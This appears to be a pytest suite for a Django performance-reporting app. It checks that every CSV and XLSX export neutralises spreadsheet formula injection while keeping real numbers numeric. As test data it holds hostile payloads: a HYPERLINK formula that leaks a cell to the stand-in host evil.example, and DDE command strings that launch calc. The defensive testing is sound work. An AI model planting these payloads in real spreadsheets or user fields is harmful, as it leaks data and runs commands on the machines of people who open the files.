"""Every CSV and XLSX the product writes neutralises text a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from kpis import exports
from kpis.roles import PERFORMANCE_TEAM, ensure_role_groups
from tests.factories import add_result, add_target, make_indicator, make_org_unit, make_user

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click for detail")'


@pytest.mark.parametrize("text", [
    HOSTILE, "+44 1632 960000", "-5+A1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1",
    "-£1,200+A1", "-1 days+A1", "-12,34", "+£5",
])
def test_text_a_spreadsheet_would_run_is_neutralised(text):
    assert exports.csv_cell(text) == "'" + text
    assert exports.is_formula_like(text)


@pytest.mark.parametrize("value, written", [
    (Decimal("-5"), "-5"), (-5, "-5"), ("-5", "-5"), ("-12.5", "-12.5"), (Decimal("0.50"), "0.5"),
    ("Fewer calls", "Fewer calls"), ("", ""), (None, ""), ("a=b", "a=b"),
    ("-£1,200", "-£1,200"), ("-3.5%", "-3.5%"), ("-1 day", "-1 day"), ("-2.21 days", "-2.21 days"),
])
def test_numbers_and_ordinary_text_are_left_alone(value, written):
    assert exports.csv_cell(value) == written


def _xlsx_cells(data: bytes, sheet: str | None = None) -> dict:
    workbook = load_workbook(io.BytesIO(data))
    worksheet = workbook[sheet] if sheet else workbook.active
    return {cell.value: cell for row in worksheet.iter_rows() for cell in row if cell.value}


def _assert_xlsx_text_not_formula(data: bytes, text: str = HOSTILE, sheet: str | None = None):
    cells = _xlsx_cells(data, sheet)
    assert text in cells, "the text is kept exactly as typed"
    cell = cells[text]
    assert cell.data_type == "s" and cell.quotePrefix
    assert not any(c.data_type == "f" for c in cells.values())


def test_xlsx_keeps_numbers_as_numbers_and_neutralises_text():
    buffer = io.BytesIO()
    exports.write_xlsx([["a", "b", "c"], [Decimal("-5"), "-5+A1", HOSTILE]], buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    number, text, link = sheet["A2"], sheet["B2"], sheet["C2"]
    assert number.value == -5 and number.data_type == "n"
    assert text.value == "-5+A1" and text.data_type == "s" and text.quotePrefix
    assert link.data_type == "s"


def test_xlsx_drops_control_characters_instead_of_failing():
    buffer = io.BytesIO()
    exports.write_xlsx([["commentary"], ["Bell\x07 and null\x00 gone"]], buffer)
    assert load_workbook(io.BytesIO(buffer.getvalue())).active["A2"].value == (
        "Bell and null gone"
    )


# --- each exporter -----------------------------------------------------------------


@pytest.fixture
def hostile(db):
    indicator = make_indicator("HX1", title="Calls answered")
    add_target(indicator, "2025-26", 90)
    result = add_result(indicator, "2025-26-Q2", "80.6", HOSTILE)
    result.reported_rag = "GREEN"
    result.save()
    other = make_indicator("HX2", title="@SUM(1+1)*cmd|' /C calc'!A0")
    add_target(other, "2025-26", 90)
    add_result(other, "2025-26-Q2", "-5")
    return indicator


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_scorecard_csv_command_neutralises_commentary(hostile):
    out = io.StringIO()
    call_command("export_scorecard", "--period", "2025-26-Q2", stdout=out)
    rows = {row["code"]: row for row in _csv_rows(out.getvalue())}
    assert rows["HX1"]["commentary"] == "'" + HOSTILE
    assert rows["HX2"]["title"].startswith("'@SUM")
    assert rows["HX2"]["actual"] == "-5", "a negative number stays a number"


def test_the_scorecard_xlsx_command_neutralises_commentary(hostile, tmp_path):
    path = tmp_path / "scorecard.xlsx"
    call_command("export_scorecard", "--period", "2025-26-Q2", "--output", str(path),
                 stderr=io.StringIO())
    data = path.read_bytes()
    _assert_xlsx_text_not_formula(data)
    sheet = load_workbook(io.BytesIO(data)).active
    actuals = [row[9] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert -5 in actuals


def _performance_client() -> Client:
    user = make_user("petra")
    user.groups.add(ensure_role_groups()[PERFORMANCE_TEAM])
    client = Client()
    client.force_login(user)
    return client


def test_the_scorecard_download_neutralises_commentary(hostile):
    response = _performance_client().get(reverse("reporting:scorecard_csv",
                                                 args=["2025-26-Q2"]))
    rows = {row["code"]: row for row in _csv_rows(response.content.decode())}
    assert rows["HX1"]["commentary"] == "'" + HOSTILE


def test_the_rag_audit_command_and_download_neutralise_titles(hostile, tmp_path):
    hostile.title = HOSTILE
    hostile.save()
    out = io.StringIO()
    call_command("rag_audit", "--period", "2025-26-Q2", stdout=out)
    assert _csv_rows(out.getvalue())[0]["title"] == "'" + HOSTILE
    response = _performance_client().get(reverse("reporting:rag_audit_csv",
                                                 args=["2025-26-Q2"]))
    assert _csv_rows(response.content.decode())[0]["title"] == "'" + HOSTILE


@pytest.fixture
def frozen():
    moment = datetime(2026, 11, 23, 12, tzinfo=ZoneInfo("Europe/London"))
    with time_machine.travel(moment, tick=False):
        yield


def test_the_bulk_download_neutralises_commentary_and_reads_it_back_unchanged(db, frozen):
    from kpis.bulk import check
    from kpis.spreadsheets import read_sheet

    user = make_user("olive")
    indicator = make_indicator("BK1", owner=user)
    add_target(indicator, "2026-27", 80)
    add_result(indicator, "2026-27-Q2", 70, HOSTILE, status="draft")
    client = Client()
    client.force_login(user)
    data = client.get(reverse("kpis:bulk_download")).content
    _assert_xlsx_text_not_formula(data, sheet="Results")
    sheet = read_sheet(io.BytesIO(data), name="results.xlsx")
    rows = check(user, sheet, datetime(2026, 11, 23).date(), submit=False)
    assert rows[0].commentary == HOSTILE, "nothing is added on the way back in"


def test_the_approvals_downloads_neutralise_names(db, frozen):
    unit = make_org_unit("Place / Roads")
    boss = make_user("boss")
    unit.parent.approvers.add(boss)
    officer = make_user("olive", first_name="=cmd|' /C calc'!A0", last_name="")
    result = add_result(make_indicator("RD1", org_unit=unit), "2026-27-Q2", 10,
                        status="submitted")
    result.entered_by = officer
    result.save()
    client = Client()
    client.force_login(boss)
    response = client.get(reverse("kpis:approvals"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][rows[0].index("Entered by")] == "'=cmd|' /C calc'!A0"
    response = client.get(reverse("kpis:approvals"), {"format": "xlsx"})
    _assert_xlsx_text_not_formula(response.content, "=cmd|' /C calc'!A0")
